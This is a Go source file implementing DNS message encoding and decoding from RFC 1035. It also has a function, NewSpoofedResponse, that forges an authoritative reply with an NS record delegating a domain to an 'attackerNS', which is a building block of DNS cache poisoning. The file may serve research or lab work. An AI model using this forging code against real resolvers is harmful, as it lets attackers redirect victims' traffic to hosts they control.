package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net"
	"strings"
)

// DNS wire format constants from RFC 1035.
const (
	TypeA     uint16 = 1
	TypeNS    uint16 = 2
	TypeCNAME uint16 = 5
	TypeSOA   uint16 = 6
	TypeTXT   uint16 = 16

	ClassIN uint16 = 1

	OpcodeQuery uint8 = 0

	dnsHeaderLen = 12
	maxLabelLen  = 63
	maxNameLen   = 255
	maxUDPSize   = 512

	// A name ends either in a zero octet or a compression pointer whose
	// top two bits are set.
	pointerMask = 0xc0
)

// Header is the 12-byte DNS message header, unpacked into fields.
type Header struct {
	ID      uint16
	QR      bool
	Opcode  uint8
	AA      bool
	TC      bool
	RD      bool
	RA      bool
	RCode   uint8
	QDCount uint16
	ANCount uint16
	NSCount uint16
	ARCount uint16
}

// Question is a single entry of the question section.
type Question struct {
	Name  string
	Type  uint16
	Class uint16
}

// ResourceRecord is a record from the answer, authority or additional
// section. Addr is populated for A records, NS for NS records, and Data
// carries the raw RDATA of any type this tool does not interpret.
type ResourceRecord struct {
	Name  string
	Type  uint16
	Class uint16
	TTL   uint32
	Addr  [4]byte
	NS    string
	Data  []byte
}

// Message is a full DNS message. Section counts in the header are derived
// from the slices at encode time so they can never disagree with what is
// actually serialized.
type Message struct {
	Header      Header
	Questions   []Question
	Answers     []ResourceRecord
	Authorities []ResourceRecord
	Additionals []ResourceRecord
}

func (h *Header) flags() uint16 {
	var f uint16
	if h.QR {
		f |= 1 << 15
	}
	f |= uint16(h.Opcode&0x0f) << 11
	if h.AA {
		f |= 1 << 10
	}
	if h.TC {
		f |= 1 << 9
	}
	if h.RD {
		f |= 1 << 8
	}
	if h.RA {
		f |= 1 << 7
	}
	// Z bits stay zero per RFC 1035
	f |= uint16(h.RCode & 0x0f)
	return f
}

func (h *Header) setFlags(f uint16) {
	h.QR = f&(1<<15) != 0
	h.Opcode = uint8(f >> 11 & 0x0f)
	h.AA = f&(1<<10) != 0
	h.TC = f&(1<<9) != 0
	h.RD = f&(1<<8) != 0
	h.RA = f&(1<<7) != 0
	h.RCode = uint8(f & 0x0f)
}

// encodeName writes a domain name as a sequence of length-prefixed labels
// terminated by a zero octet. Compression is never produced on encode.
func encodeName(buf *bytes.Buffer, name string) error {
	if name == "" {
		return fmt.Errorf("%w: empty name", ErrEncoding)
	}
	encodedLen := 1 // trailing zero octet
	for _, label := range strings.Split(strings.TrimSuffix(name, "."), ".") {
		if len(label) == 0 {
			return fmt.Errorf("%w: empty label in %q", ErrEncoding, name)
		}
		if len(label) > maxLabelLen {
			return fmt.Errorf("%w: label %q exceeds %d octets", ErrEncoding, label, maxLabelLen)
		}
		encodedLen += 1 + len(label)
		if encodedLen > maxNameLen {
			return fmt.Errorf("%w: name %q exceeds %d octets", ErrEncoding, name, maxNameLen)
		}
		buf.WriteByte(byte(len(label)))
		buf.WriteString(label)
	}
	buf.WriteByte(0)
	return nil
}

func encodeRecord(buf *bytes.Buffer, rr *ResourceRecord) error {
	if err := encodeName(buf, rr.Name); err != nil {
		return err
	}
	var fixed [8]byte
	binary.BigEndian.PutUint16(fixed[0:2], rr.Type)
	binary.BigEndian.PutUint16(fixed[2:4], rr.Class)
	binary.BigEndian.PutUint32(fixed[4:8], rr.TTL)
	buf.Write(fixed[:])

	var rdata bytes.Buffer
	switch rr.Type {
	case TypeA:
		rdata.Write(rr.Addr[:])
	case TypeNS:
		if err := encodeName(&rdata, rr.NS); err != nil {
			return err
		}
	default:
		return fmt.Errorf("%w: cannot encode record type %d", ErrEncoding, rr.Type)
	}

	var rdlength [2]byte
	binary.BigEndian.PutUint16(rdlength[:], uint16(rdata.Len()))
	buf.Write(rdlength[:])
	buf.Write(rdata.Bytes())
	return nil
}

// Encode serializes the message into wire format, big-endian throughout.
// Section counts are taken from the slice lengths, not from the header.
func (m *Message) Encode() ([]byte, error) {
	var buf bytes.Buffer

	var hdr [dnsHeaderLen]byte
	binary.BigEndian.PutUint16(hdr[0:2], m.Header.ID)
	binary.BigEndian.PutUint16(hdr[2:4], m.Header.flags())
	binary.BigEndian.PutUint16(hdr[4:6], uint16(len(m.Questions)))
	binary.BigEndian.PutUint16(hdr[6:8], uint16(len(m.Answers)))
	binary.BigEndian.PutUint16(hdr[8:10], uint16(len(m.Authorities)))
	binary.BigEndian.PutUint16(hdr[10:12], uint16(len(m.Additionals)))
	buf.Write(hdr[:])

	for i := range m.Questions {
		q := &m.Questions[i]
		if err := encodeName(&buf, q.Name); err != nil {
			return nil, err
		}
		var fixed [4]byte
		binary.BigEndian.PutUint16(fixed[0:2], q.Type)
		binary.BigEndian.PutUint16(fixed[2:4], q.Class)
		buf.Write(fixed[:])
	}
	for _, section := range [][]ResourceRecord{m.Answers, m.Authorities, m.Additionals} {
		for i := range section {
			if err := encodeRecord(&buf, &section[i]); err != nil {
				return nil, err
			}
		}
	}

	if buf.Len() > maxUDPSize {
		return nil, fmt.Errorf("%w: message is %d bytes, max %d over UDP", ErrEncoding, buf.Len(), maxUDPSize)
	}
	return buf.Bytes(), nil
}

// decodeName reads a domain name starting at off, following compression
// pointers anywhere in buf. It returns the dotted name and the offset of
// the first byte after the name in the original stream.
func decodeName(buf []byte, off int) (string, int, error) {
	var labels []string
	// after the first pointer the stream offset is fixed
	next := -1
	hops := 0
	for {
		if off >= len(buf) {
			return "", 0, fmt.Errorf("%w: name runs past end of buffer", ErrMalformedMessage)
		}
		b := buf[off]
		switch {
		case b == 0:
			off++
			if next == -1 {
				next = off
			}
			name := strings.Join(labels, ".")
			if name == "" {
				name = "."
			}
			return name, next, nil
		case b&pointerMask == pointerMask:
			if off+1 >= len(buf) {
				return "", 0, fmt.Errorf("%w: truncated compression pointer", ErrMalformedMessage)
			}
			if next == -1 {
				next = off + 2
			}
			target := int(binary.BigEndian.Uint16(buf[off:off+2]) & 0x3fff)
			if target >= off {
				return "", 0, fmt.Errorf("%w: forward compression pointer", ErrMalformedMessage)
			}
			hops++
			if hops > 16 {
				return "", 0, fmt.Errorf("%w: compression pointer loop", ErrMalformedMessage)
			}
			off = target
		case b&pointerMask != 0:
			return "", 0, fmt.Errorf("%w: reserved label type %#x", ErrMalformedMessage, b&pointerMask)
		default:
			length := int(b)
			off++
			if off+length > len(buf) {
				return "", 0, fmt.Errorf("%w: label runs past end of buffer", ErrMalformedMessage)
			}
			labels = append(labels, string(buf[off:off+length]))
			off += length
		}
	}
}

func decodeRecord(buf []byte, off int) (ResourceRecord, int, error) {
	var rr ResourceRecord
	name, off, err := decodeName(buf, off)
	if err != nil {
		return rr, 0, err
	}
	if off+10 > len(buf) {
		return rr, 0, fmt.Errorf("%w: buffer ends inside record fixed fields", ErrMalformedMessage)
	}
	rr.Name = name
	rr.Type = binary.BigEndian.Uint16(buf[off : off+2])
	rr.Class = binary.BigEndian.Uint16(buf[off+2 : off+4])
	rr.TTL = binary.BigEndian.Uint32(buf[off+4 : off+8])
	rdlength := int(binary.BigEndian.Uint16(buf[off+8 : off+10]))
	off += 10
	if off+rdlength > len(buf) {
		return rr, 0, fmt.Errorf("%w: RDLENGTH %d exceeds remaining buffer", ErrMalformedMessage, rdlength)
	}

	switch rr.Type {
	case TypeA:
		if rdlength != 4 {
			return rr, 0, fmt.Errorf("%w: A record with RDLENGTH %d", ErrMalformedMessage, rdlength)
		}
		copy(rr.Addr[:], buf[off:off+4])
	case TypeNS:
		// NS RDATA is a name and may be compressed against the whole message
		ns, end, err := decodeName(buf, off)
		if err != nil {
			return rr, 0, err
		}
		if end > off+rdlength {
			return rr, 0, fmt.Errorf("%w: NS name exceeds RDLENGTH", ErrMalformedMessage)
		}
		rr.NS = ns
	default:
		// Skip over types this tool does not interpret, keeping the raw bytes.
		rr.Data = append([]byte(nil), buf[off:off+rdlength]...)
	}
	return rr, off + rdlength, nil
}

// DecodeMessage parses a wire-format DNS message. Compressed names are
// resolved; record types other than A and NS are carried as raw RDATA.
func DecodeMessage(buf []byte) (*Message, error) {
	if len(buf) < dnsHeaderLen {
		return nil, fmt.Errorf("%w: %d bytes is shorter than the header", ErrMalformedMessage, len(buf))
	}
	m := &Message{}
	m.Header.ID = binary.BigEndian.Uint16(buf[0:2])
	m.Header.setFlags(binary.BigEndian.Uint16(buf[2:4]))
	m.Header.QDCount = binary.BigEndian.Uint16(buf[4:6])
	m.Header.ANCount = binary.BigEndian.Uint16(buf[6:8])
	m.Header.NSCount = binary.BigEndian.Uint16(buf[8:10])
	m.Header.ARCount = binary.BigEndian.Uint16(buf[10:12])

	off := dnsHeaderLen
	for i := 0; i < int(m.Header.QDCount); i++ {
		name, next, err := decodeName(buf, off)
		if err != nil {
			return nil, err
		}
		if next+4 > len(buf) {
			return nil, fmt.Errorf("%w: buffer ends inside question", ErrMalformedMessage)
		}
		m.Questions = append(m.Questions, Question{
			Name:  name,
			Type:  binary.BigEndian.Uint16(buf[next : next+2]),
			Class: binary.BigEndian.Uint16(buf[next+2 : next+4]),
		})
		off = next + 4
	}

	sections := []struct {
		count int
		out   *[]ResourceRecord
	}{
		{int(m.Header.ANCount), &m.Answers},
		{int(m.Header.NSCount), &m.Authorities},
		{int(m.Header.ARCount), &m.Additionals},
	}
	for _, s := range sections {
		for i := 0; i < s.count; i++ {
			rr, next, err := decodeRecord(buf, off)
			if err != nil {
				return nil, err
			}
			*s.out = append(*s.out, rr)
			off = next
		}
	}
	return m, nil
}

// NewQuery builds a recursion-desired A query for hostname.
func NewQuery(id uint16, hostname string) (*Message, error) {
	if !validHostname(hostname) {
		return nil, fmt.Errorf("%w: invalid hostname %q", ErrEncoding, hostname)
	}
	return &Message{
		Header: Header{
			ID:      id,
			Opcode:  OpcodeQuery,
			RD:      true,
			QDCount: 1,
		},
		Questions: []Question{{Name: hostname, Type: TypeA, Class: ClassIN}},
	}, nil
}

// NewSpoofedResponse builds an authoritative answer to query carrying one
// A record for the queried name and one NS record delegating nsOwner to
// attackerNS in the authority section.
func NewSpoofedResponse(query *Message, answerAddr net.IP, answerTTL uint32, nsOwner, attackerNS string, nsTTL uint32) (*Message, error) {
	if len(query.Questions) == 0 {
		return nil, fmt.Errorf("%w: query has no question to answer", ErrEncoding)
	}
	a4 := answerAddr.To4()
	if a4 == nil {
		return nil, fmt.Errorf("%w: answer address %s is not IPv4", ErrInvalidAddress, answerAddr)
	}
	if !validHostname(nsOwner) || !validHostname(attackerNS) {
		return nil, fmt.Errorf("%w: invalid authority names %q/%q", ErrEncoding, nsOwner, attackerNS)
	}

	resp := &Message{
		Header:    query.Header,
		Questions: append([]Question(nil), query.Questions...),
	}
	resp.Header.QR = true
	resp.Header.AA = true
	resp.Header.RA = true
	resp.Header.RCode = 0

	answer := ResourceRecord{
		Name:  query.Questions[0].Name,
		Type:  TypeA,
		Class: ClassIN,
		TTL:   answerTTL,
	}
	copy(answer.Addr[:], a4)
	resp.Answers = append(resp.Answers, answer)
	resp.Authorities = append(resp.Authorities, ResourceRecord{
		Name:  nsOwner,
		Type:  TypeNS,
		Class: ClassIN,
		TTL:   nsTTL,
		NS:    attackerNS,
	})
	resp.Header.ANCount = 1
	resp.Header.NSCount = 1
	return resp, nil
}

// validHostname checks a hostname against RFC 1123: alphanumeric labels
// with interior hyphens, alphanumeric first and last characters.
func validHostname(hostname string) bool {
	if len(hostname) == 0 || len(hostname) > maxNameLen {
		return false
	}
	if !isAlphanum(hostname[0]) || !isAlphanum(hostname[len(hostname)-1]) {
		return false
	}
	for i := 1; i < len(hostname)-1; i++ {
		c := hostname[i]
		if !isAlphanum(c) && c != '-' && c != '.' {
			return false
		}
	}
	return true
}

func isAlphanum(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9'
}

// parentDomain strips the leading label from a hostname, e.g.
// www.example.com becomes example.com. Names without a parent are
// returned unchanged.
func parentDomain(hostname string) string {
	if i := strings.IndexByte(hostname, '.'); i >= 0 && i+1 < len(hostname) {
		return hostname[i+1:]
	}
	return hostname
}
